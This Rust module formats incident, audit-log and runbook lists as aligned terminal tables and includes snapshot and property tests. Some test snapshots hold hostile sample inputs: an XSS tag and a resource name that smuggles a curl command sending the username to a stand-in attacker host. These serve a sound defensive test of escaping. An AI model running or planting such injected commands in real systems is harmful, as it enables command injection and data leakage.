//! Many rows as an aligned table, one per line.

use std::borrow::Cow;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::plain::{NA, columns, cut, duration, line, na};
use crate::{
    domain::{
        ids::IncidentId,
        incident::classification::{Confidence, IncidentType, Status},
        time::Timestamp,
    },
    tables::rows::AuditRow,
};

/// One line of an incident list.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct IncidentLine {
    pub incident_id: IncidentId,
    pub reported_at: Timestamp,
    pub incident_type: IncidentType,
    pub status: Status,
    pub title: String,
    pub resource_name: Option<String>,
    pub confidence: Option<Confidence>,
    /// First resolved − reported.
    pub time_to_resolve_s: Option<f64>,
}

/// Incidents in the order given. The last column has the time to resolve; for an open incident, its age at `as_of`.
pub fn incidents(lines: &[IncidentLine], as_of: Timestamp, width: usize) -> String {
    if lines.is_empty() {
        return "There are no incidents to list.\n".into();
    }
    let rows = lines.iter().map(|incident| {
        [
            incident.incident_id.to_string(),
            minute(incident.reported_at),
            incident.incident_type.to_string(),
            incident.status.to_string(),
            line(&incident.title).into_owned(),
            na(incident.resource_name.as_deref().map(line)),
            na(incident.confidence),
            time_taken(incident, as_of),
        ]
    });
    let columns = [
        fixed("INCIDENT"),
        fixed("REPORTED (UTC)"),
        fixed("TYPE"),
        fixed("STATUS"),
        flexible("TITLE", 12),
        flexible("RESOURCE", 10),
        fixed("CONFIDENCE"),
        fixed("TIME TAKEN"),
    ];
    table(columns, rows, width)
}

/// Rows of the audit log in the order given. The hash is cut to 12 digits.
pub fn audit_rows(rows: &[AuditRow], width: usize) -> String {
    if rows.is_empty() {
        return "There are no audit log rows to list.\n".into();
    }
    let rows = rows.iter().map(|row| {
        [
            row.seq.to_string(),
            second(row.recorded_at),
            line(row.actor.as_str()).into_owned(),
            line(&row.action).into_owned(),
            na(row.incident_id),
            line(row.request_id.as_str()).into_owned(),
            line(&row.entry_hash.chars().take(12).collect::<String>()).into_owned(),
        ]
    });
    let columns = [
        fixed("SEQ"),
        fixed("RECORDED (UTC)"),
        flexible("ACTOR", 12),
        flexible("ACTION", 12),
        fixed("INCIDENT"),
        flexible("REQUEST", 16),
        fixed("ENTRY HASH"),
    ];
    table(columns, rows, width)
}

/// One line of a list of runbooks.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RunbookLine {
    pub incident_id: IncidentId,
    /// The number of versions.
    pub versions: i64,
    /// When the latest version was recorded.
    pub updated_at: Timestamp,
    pub incident_title: Option<String>,
}

/// Incidents that have a runbook, in the order given.
pub fn runbooks(lines: &[RunbookLine], width: usize) -> String {
    if lines.is_empty() {
        return "There are no runbooks to list: no report with a remediation was recorded.\n".into();
    }
    let rows = lines.iter().map(|runbook| {
        [
            runbook.incident_id.to_string(),
            runbook.versions.to_string(),
            minute(runbook.updated_at),
            na(runbook.incident_title.as_deref().map(line)),
        ]
    });
    table([fixed("INCIDENT"), fixed("VERSIONS"), fixed("UPDATED (UTC)"), flexible("INCIDENT TITLE", 16)], rows, width)
}

pub(super) fn minute(at: Timestamp) -> String {
    at.utc().format("%Y-%m-%d %H:%M").to_string()
}

fn second(at: Timestamp) -> String {
    at.utc().format("%Y-%m-%d %H:%M:%S").to_string()
}

fn time_taken(incident: &IncidentLine, as_of: Timestamp) -> String {
    let measured = |seconds: Option<f64>| match seconds {
        Some(negative) if negative < 0.0 => format!("{NA} (clock skew)"),
        _ => duration(seconds),
    };
    match incident.status {
        Status::Resolved => measured(incident.time_to_resolve_s),
        _ => format!("open {}", measured(Some(as_of.seconds_since(incident.reported_at)))),
    }
}

pub(super) struct TextColumn {
    title: Cow<'static, str>,
    /// The smallest width to which it may shrink; `None` if it may not.
    least: Option<usize>,
    /// Right-aligned, for numbers.
    right: bool,
}

pub(super) fn fixed(title: impl Into<Cow<'static, str>>) -> TextColumn {
    TextColumn { title: title.into(), least: None, right: false }
}

pub(super) fn flexible(title: impl Into<Cow<'static, str>>, least: usize) -> TextColumn {
    TextColumn { title: title.into(), least: Some(least), right: false }
}

pub(super) fn number(title: impl Into<Cow<'static, str>>) -> TextColumn {
    TextColumn { title: title.into(), least: None, right: true }
}

const GAP: usize = 2;

/// A table whose columns are as wide as their widest cell. Where that exceeds `width`, the widest flexible columns shrink.
pub(super) fn table<const N: usize>(
    header: [TextColumn; N],
    rows: impl Iterator<Item = [String; N]>,
    width: usize,
) -> String {
    lay_out(&header, &rows.map(Vec::from).collect::<Vec<_>>(), width)
}

/// A table with any number of columns.
pub(super) fn lay_out(header: &[TextColumn], rows: &[Vec<String>], width: usize) -> String {
    let widest = |(index, column): (usize, &TextColumn)| {
        let cells = rows.iter().filter_map(|row| row.get(index)).map(|cell| columns(cell));
        columns(&column.title).max(cells.max().unwrap_or(0))
    };
    let mut widths: Vec<usize> = header.iter().enumerate().map(widest).collect();
    shrink(&mut widths, header, width);

    let mut text = String::new();
    write_line(&mut text, header.iter().map(|column| &*column.title), header, &widths);
    for row in rows {
        write_line(&mut text, row.iter().map(String::as_str), header, &widths);
    }
    text
}

fn shrink(widths: &mut [usize], header: &[TextColumn], width: usize) {
    let gaps = GAP * header.len().saturating_sub(1);
    // a flexible column never exceeds the line, which also bounds the loop below
    for (column, header) in widths.iter_mut().zip(header) {
        if let Some(least) = header.least {
            *column = (*column).min(width.max(least));
        }
    }
    while widths.iter().sum::<usize>() + gaps > width {
        let widest = widths
            .iter_mut()
            .zip(header)
            .filter(|(column, header)| header.least.is_some_and(|least| **column > least))
            .max_by_key(|(column, _)| **column);
        let Some((column, _)) = widest else { break };
        *column -= 1;
    }
}

fn write_line<'a>(text: &mut String, cells: impl Iterator<Item = &'a str>, header: &[TextColumn], widths: &[usize]) {
    let start = text.len();
    for ((cell, column), width) in cells.zip(header).zip(widths) {
        if text.len() > start {
            text.extend(std::iter::repeat_n(' ', GAP));
        }
        let cell = cut(cell, *width);
        let room = width.saturating_sub(columns(&cell));
        if column.right {
            text.extend(std::iter::repeat_n(' ', room));
        }
        text.push_str(&cell);
        if !column.right {
            text.extend(std::iter::repeat_n(' ', room));
        }
    }
    text.truncate(text.trim_end_matches(' ').len());
    text.push('\n');
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::{
        domain::ids::Id,
        render::example::{
            DAILY_ETL, HOSTILE, NO_RUN_OUTPUT, VALIDATION, assert_safe, hostile_text, recorded, report, time,
        },
    };

    fn as_of() -> Timestamp {
        time("2026-02-20T12:00:00Z")
    }

    fn incident_line(json: &str, time_to_resolve_s: Option<f64>) -> IncidentLine {
        let state = recorded(report(json)).projections.incident_states.remove(0);
        IncidentLine {
            incident_id: state.incident_id,
            reported_at: state.reported_at,
            incident_type: state.incident_type,
            status: state.status,
            title: state.title,
            resource_name: state.resource_name,
            confidence: state.confidence,
            time_to_resolve_s,
        }
    }

    fn four() -> Vec<IncidentLine> {
        vec![
            incident_line(DAILY_ETL, Some(900.0)),
            incident_line(NO_RUN_OUTPUT, None),
            incident_line(VALIDATION, None),
            incident_line(HOSTILE, None),
        ]
    }

    fn row(json: &str) -> AuditRow {
        recorded(report(json)).audit.remove(0)
    }

    #[test]
    fn incidents_are_aligned_on_a_wide_terminal() {
        insta::assert_snapshot!(incidents(&four(), as_of(), 180), @"
        INCIDENT  REPORTED (UTC)    TYPE              STATUS         TITLE                                            RESOURCE                                        CONFIDENCE  TIME TAKEN
        INC-1042  2026-02-11 12:21  job-failure       resolved       daily-etl failed: transient timeout, no retry …  daily-etl                                       HIGH        15m
        INC-1042  2026-02-18 07:00  job-failure       investigating  marts-refresh failed, run output cannot be read  marts-refresh                                   LOW         open 2d 5h
        INC-1042  2026-02-19 06:00  security-finding  investigating  Best-practice validation of the workspace        n/a                                             n/a         open 1d 6h
        INC-1042  2026-02-20 10:00  job-failure       investigating  </script><img src=x onerror=alert(1)> | job | …  x'; curl http://evil.example.test/$(whoami) #…  MEDIUM      open 2h
        ");
    }

    #[test]
    fn titles_shrink_on_a_narrow_terminal() {
        insta::assert_snapshot!(incidents(&four(), as_of(), 130), @"
        INCIDENT  REPORTED (UTC)    TYPE              STATUS         TITLE                   RESOURCE               CONFIDENCE  TIME TAKEN
        INC-1042  2026-02-11 12:21  job-failure       resolved       daily-etl failed: tra…  daily-etl              HIGH        15m
        INC-1042  2026-02-18 07:00  job-failure       investigating  marts-refresh failed,…  marts-refresh          LOW         open 2d 5h
        INC-1042  2026-02-19 06:00  security-finding  investigating  Best-practice validat…  n/a                    n/a         open 1d 6h
        INC-1042  2026-02-20 10:00  job-failure       investigating  </script><img src=x o…  x'; curl http://evil…  MEDIUM      open 2h
        ");
    }

    #[test]
    fn audit_rows_are_aligned() {
        let rows = [row(DAILY_ETL), row(NO_RUN_OUTPUT), row(VALIDATION), row(HOSTILE)];
        insta::assert_snapshot!(audit_rows(&rows, 160), @"
        SEQ  RECORDED (UTC)       ACTOR                       ACTION                                 INCIDENT  REQUEST                                   ENTRY HASH
        17   2026-02-20 12:36:00  agent:databricks_mcp_agent  INVESTIGATE, RCA, REMEDIATE, VALIDATE  INC-1042  rca-2026-02-11-daily-etl-236083407514246  9f2c9f2c9f2c
        17   2026-02-20 12:36:00  agent:databricks_mcp_agent  INVESTIGATE, RCA                       INC-1042  rca-2026-02-18-run-236083407514246        9f2c9f2c9f2c
        17   2026-02-20 12:36:00  agent:databricks_mcp_agent  INVESTIGATE, VALIDATE                  INC-1042  validate-2026-02-19-ws-7405612783315468   9f2c9f2c9f2c
        17   2026-02-20 12:36:00  agent:databricks_mcp_agent  INVESTIGATE, RCA                       INC-1042  rca-2026-02-20-hostile                    9f2c9f2c9f2c
        ");
        insta::assert_snapshot!(audit_rows(&rows, 100), @"
        SEQ  RECORDED (UTC)       ACTOR            ACTION           INCIDENT  REQUEST           ENTRY HASH
        17   2026-02-20 12:36:00  agent:databric…  INVESTIGATE, R…  INC-1042  rca-2026-02-11-…  9f2c9f2c9f2c
        17   2026-02-20 12:36:00  agent:databric…  INVESTIGATE, R…  INC-1042  rca-2026-02-18-…  9f2c9f2c9f2c
        17   2026-02-20 12:36:00  agent:databric…  INVESTIGATE, V…  INC-1042  validate-2026-0…  9f2c9f2c9f2c
        17   2026-02-20 12:36:00  agent:databric…  INVESTIGATE, R…  INC-1042  rca-2026-02-20-…  9f2c9f2c9f2c
        ");
    }

    #[test]
    fn an_empty_list_is_a_sentence() {
        assert_eq!(incidents(&[], as_of(), 80), "There are no incidents to list.\n");
        assert_eq!(audit_rows(&[], 80), "There are no audit log rows to list.\n");
    }

    #[test]
    fn wide_characters_keep_the_columns_aligned() {
        let lines = ["日次処理が失敗しました", "daily-etl failed"]
            .map(|title| IncidentLine { title: title.into(), ..incident_line(DAILY_ETL, None) });
        let text = incidents(&lines, as_of(), 200);
        let ends: Vec<usize> =
            text.lines().skip(1).filter_map(|line| line.find("daily-etl  ").map(|at| columns(&line[..at]))).collect();
        assert_eq!(ends.len(), 2);
        assert_eq!(ends.first(), ends.last());
    }

    #[test]
    fn a_time_that_was_not_measured_is_not_zero() {
        fn check(status: Status, seconds: Option<f64>, shown: &str) {
            let incident = IncidentLine { status, ..incident_line(DAILY_ETL, seconds) };
            assert_eq!(time_taken(&incident, time("2026-02-11T12:20:00Z")), shown);
        }
        check(Status::Resolved, Some(900.0), "15m");
        check(Status::Resolved, None, "n/a");
        check(Status::Resolved, Some(-3.0), "n/a (clock skew)");
        check(Status::Escalated, None, "open n/a (clock skew)");
    }

    #[test]
    fn ten_thousand_incidents_are_ten_thousand_lines() {
        let lines = vec![incident_line(DAILY_ETL, None); 10_000];
        assert_eq!(incidents(&lines, as_of(), 80).lines().count(), 10_001);
    }

    proptest! {
        #[test]
        fn hostile_text_is_escaped_and_does_not_break_the_table(text in hostile_text(), width in prop_oneof![0usize..300, Just(usize::MAX)]) {
            prop_assume!(!text.trim().is_empty());
            let name = Id::new(text.clone()).unwrap();
            let incident = IncidentLine { title: text.clone(), resource_name: Some(text.clone()), ..incident_line(DAILY_ETL, None) };
            let listed = incidents(&[incident], as_of(), width);
            assert_safe(&listed);
            prop_assert_eq!(listed.lines().count(), 2);

            let row = AuditRow { actor: name.clone(), request_id: name, action: text.clone(), entry_hash: text, ..row(DAILY_ETL) };
            let listed = audit_rows(&[row], width);
            assert_safe(&listed);
            prop_assert_eq!(listed.lines().count(), 2);
        }

        #[test]
        fn a_table_fits_where_its_columns_can_shrink(width in 112usize..300) {
            let listed = incidents(&four(), as_of(), width);
            prop_assert!(listed.lines().all(|line| columns(line) <= width), "{}", listed);
        }
    }
}
